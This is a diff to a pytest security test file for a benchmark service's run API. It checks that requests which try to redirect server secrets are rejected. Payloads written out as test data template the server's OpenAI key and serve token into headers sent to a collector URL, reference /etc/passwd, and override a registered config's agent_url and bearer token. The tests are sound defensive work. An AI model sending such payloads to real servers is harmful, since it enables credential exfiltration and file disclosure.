@@ -5,11 +5,17 @@ and whose `base_url` is the client's own collector. Before, the server filled th
 its environment (its OpenAI key, its serve token), sent them to the collector and
 returned them in trajectories. Now any client-supplied agent options, server file paths
 or API bases are refused; agents with options are the operator's registered configs.
+
+The same attack moved up one level (an adapter option at the top level of the body goes
+to the adapter too), through the CLI's singular `agent_option`, and over a registered
+config (its `agent_url` replaced, its bearer token sent along): a request is an
+allow-list of run settings (`guard.CLIENT_FIELDS`), everything else is a 422 naming it.
 """
 
 from __future__ import annotations
 
 import asyncio
+import json
 import socket
 import threading
 from collections.abc import AsyncIterator
@@ -21,10 +27,12 @@ import httpx
 import pytest
 import uvicorn
 
+from tau_bench.config import config_from_mapping
 from tau_bench.service.api import create_app
 from tests.tau_bench.service.conftest import AUTH, ORACLE, TOKEN, WAIT, make_settings
 
 SERVER_KEY = "sk-server-secret-0123456789abcdef"
+OPERATOR_SECRET = "OPERATOR-REGISTERED-SECRET-123"
 
 
 class Collector:
@@ -70,7 +78,17 @@ async def served(
     port = sock.getsockname()[1]
     settings = make_settings(
         tmp_path,
-        agent_configs={"steady": {"agent_strategy": "oracle", "agent_options": {"timeout": 9}}},
+        agent_configs={
+            "steady": {"agent_strategy": "oracle", "agent_options": {"timeout": 9}},
+            # As `tau serve --agent-configs` reads it: adapter options at the top level.
+            "staging-a2a": config_from_mapping(
+                {
+                    "agent_strategy": "a2a",
+                    "agent_url": "http://127.0.0.1:9/",
+                    "bearer_token": OPERATOR_SECRET,
+                }
+            ),
+        },
     )
     server = uvicorn.Server(uvicorn.Config(create_app(settings), log_level="warning"))
     serving = asyncio.create_task(server.serve(sockets=[sock]))
@@ -84,32 +102,100 @@ async def served(
         await serving
 
 
-async def test_the_exfiltration_attempt_is_refused(served: httpx.AsyncClient) -> None:
+def inline_http_config(url: str) -> dict[str, Any]:
+    return {
+        "base_url": url,
+        "session": {"mode": "stateless"},
+        "headers": {"X-Key": "${OPENAI_API_KEY}", "X-Token": "${TAU_SERVE_TOKEN}"},
+        "message": {"path": "/chat", "body": {"m": "{{ messages }}"}},
+        "response": {"messages": "reply"},
+    }
+
+
+@pytest.mark.parametrize(
+    ("attack", "field"),
+    [
+        # In agent_options, as first reproduced.
+        (lambda url: {"agent_options": {"http_config": inline_http_config(url)}}, "agent_options"),
+        # The same option at the top level of the body.
+        (lambda url: {"http_config": inline_http_config(url)}, "http_config"),
+        (lambda url: {"http-config": inline_http_config(url)}, "http_config"),
+        # The CLI's singular spelling, KEY=VALUE items (a file on the server).
+        (lambda url: {"agent_option": ["http_config=/etc/passwd"]}, "agent_option"),
+        (lambda url: {"agent-option": {"http_config": inline_http_config(url)}}, "agent_option"),
+        # The key `config_from_mapping` keeps adapter settings under.
+        (
+            lambda url: {"__adapter_settings__": {"http_config": inline_http_config(url)}},
+            "__adapter_settings__",
+        ),
+    ],
+)
+async def test_the_exfiltration_attempt_is_refused(
+    served: httpx.AsyncClient, attack: Any, field: str
+) -> None:
     collector = Collector()
     try:
-        attack = {
-            **ORACLE,
-            "agent_strategy": "http",
-            "task_ids": [13],
-            "agent_options": {
-                "http_config": {
-                    "base_url": collector.url,
-                    "session": {"mode": "stateless"},
-                    "headers": {"X-Key": "${OPENAI_API_KEY}", "X-Token": "${TAU_SERVE_TOKEN}"},
-                    "message": {"path": "/chat", "body": {"m": "{{ messages }}"}},
-                    "response": {"messages": "reply"},
-                }
-            },
-        }
-        response = await served.post("/runs", json=attack)
-        assert response.status_code == 422
-        assert response.json()["field"] == "agent_options"
+        body = {**ORACLE, "agent_strategy": "http", "task_ids": [13], **attack(collector.url)}
+        response = await served.post("/runs", json=body)
+        assert response.status_code == 422, response.text
+        assert response.json()["field"] == field
         assert "agent_config" in response.json()["detail"]
         runs = (await served.get("/runs")).text
     finally:
         collector.close()
     assert collector.seen == []
-    assert SERVER_KEY not in response.text + runs and TOKEN not in response.text + runs
+    assert runs == '{"runs":[]}'
+    assert SERVER_KEY not in response.text and TOKEN not in response.text
+
+
+async def test_a_registered_config_cannot_be_pointed_elsewhere(served: httpx.AsyncClient) -> None:
+    """The operator's a2a config carries a bearer token: a request that replaces its URL
+    would have that token sent to the request's host."""
+    collector = Collector()
+    try:
+        for option in ("agent_url", "agent-url", "bearer_token", "card_path"):
+            body = {
+                **ORACLE,
+                "agent_strategy": "a2a",
+                "agent_config": "staging-a2a",
+                "task_ids": [13],
+                option: collector.url + "/",
+            }
+            response = await served.post("/runs", json=body)
+            assert response.status_code == 422, response.text
+            assert response.json()["field"] == option.replace("-", "_")
+        runs = (await served.get("/runs")).text
+    finally:
+        collector.close()
+    assert collector.seen == []
+    assert runs == '{"runs":[]}'
+
+
+@pytest.mark.parametrize(
+    "option",
+    [
+        "credentials_file",  # CES: a file of the server
+        "gcp_sa_file",  # Dialogflow: a service-account file of the server
+        "api_endpoint",  # Dialogflow: where the server's credentials go
+        "emulator",
+        "card_path",  # a2a: a file of the server
+        "agent_url",
+        "base_url",
+        "Agent_Options",  # keys are not case-folded: an unknown key, refused as such
+        "colour",  # a typo: refused like any setting a request may not give
+    ],
+)
+async def test_no_adapter_option_is_taken_from_a_request(
+    served: httpx.AsyncClient, option: str
+) -> None:
+    response = await served.post("/runs", json={**ORACLE, "task_ids": [13], option: "/etc/x"})
+    assert response.status_code == 422, response.text
+    assert response.json() == {
+        "detail": f"{option}: unknown setting: a request gives run settings only; agent "
+        "options are set by the server's operator (name one of its agent configs with "
+        "agent_config; GET /agent-configs lists them)",
+        "field": option,
+    }
 
 
 @pytest.mark.parametrize(
@@ -139,6 +225,16 @@ async def test_server_files_urls_and_unknown_configs_are_refused(
         ({"num_trials": 10**12}, "num_trials"),
         ({"num_trials": 101}, "num_trials"),
         ({"max_concurrency": 10**9}, "max_concurrency"),
+        # JSON floats: pydantic would take 1000.0 as 1000, past the bound.
+        ({"num_trials": 1000.0}, "num_trials"),
+        ({"num_trials": 2.0}, "num_trials"),
+        ({"max_concurrency": 1e9}, "max_concurrency"),
+        ({"max_concurrency": "1000000000"}, "max_concurrency"),
+        ({"max_steps": 1e12}, "max_steps"),
+        # Ranges with several `domain/` parts count as the run's parser expands them.
+        ({"env": "tau3/retail", "task_ids": ["tau3/retail/0-9999"] * 2}, "task_ids"),
+        # No task ids: the split (or the index range) is counted once the data is read.
+        ({"task_ids": None, "start_index": 0, "end_index": 50, "num_trials": 100}, None),
         ({"task_ids": ["0-999999999999"]}, "task_ids"),
         ({"task_ids": [13], "num_trials": 100, "max_concurrency": 1}, None),
         ({"task_ids": ["0-49"] * 9, "num_trials": 50}, "num_trials"),
@@ -154,6 +250,24 @@ async def test_every_requested_resource_is_bounded(
         return
     assert response.status_code == 422, response.text
     assert response.json()["field"] == field
+    if field == "task_ids":
+        assert "10000" in response.json()["detail"]  # the bound, not some later error
+
+
+async def test_the_episode_bound_holds_without_task_ids(served: httpx.AsyncClient) -> None:
+    """The probe's request: τ³ telecom's full split × 100 trials, 228,500 episodes."""
+    body = {
+        "env": "tau3/telecom",
+        "task_split": "full",
+        "agent_strategy": "oracle",
+        "user_strategy": "scripted",
+        "num_trials": 100,
+    }
+    response = await served.post("/runs", json=body)
+    assert response.status_code == 422, response.text
+    assert response.json()["field"] == "num_trials"
+    assert "228500 episodes; at most 20000" in response.json()["detail"]
+    assert (await served.get("/runs")).json() == {"runs": []}
 
 
 async def test_a_huge_body_is_refused_unread(served: httpx.AsyncClient) -> None:
@@ -170,9 +284,30 @@ async def test_a_registered_config_runs_with_its_options(served: httpx.AsyncClie
     assert response.status_code == 202, response.text
     view = (await served.get(f"/runs/{response.json()['run_id']}", params={"wait": WAIT})).json()
     assert view["status"] == "completed"
-    assert view["config"]["agent_options"] == {"timeout": 9}
+    # The registered options stay on the server: the run shows the config's name.
+    assert view["config"]["agent_config"] == "steady"
+    assert "agent_options" not in view["config"]
     listed = (await served.get("/agent-configs")).json()
-    assert listed == {"agent_configs": {"steady": {"agent_strategy": "oracle"}}}
+    assert listed == {
+        "agent_configs": {
+            "staging-a2a": {"agent_strategy": "a2a"},
+            "steady": {"agent_strategy": "oracle"},
+        }
+    }
+
+
+async def test_a_registered_configs_options_are_not_shown(served: httpx.AsyncClient) -> None:
+    response = await served.post(
+        "/runs",
+        json={**ORACLE, "agent_strategy": "a2a", "agent_config": "staging-a2a", "task_ids": [13]},
+    )
+    assert response.status_code == 202, response.text
+    run_id = response.json()["run_id"]
+    view = (await served.get(f"/runs/{run_id}", params={"wait": WAIT})).json()
+    assert view["config"]["agent_config"] == "staging-a2a"
+    assert "127.0.0.1:9" not in json.dumps(view["config"])  # the operator's agent_url
+    for url in ("/runs", f"/runs/{run_id}"):
+        assert OPERATOR_SECRET not in (await served.get(url)).text
 
 
 async def test_the_openapi_schema_needs_the_token(served: httpx.AsyncClient) -> None:
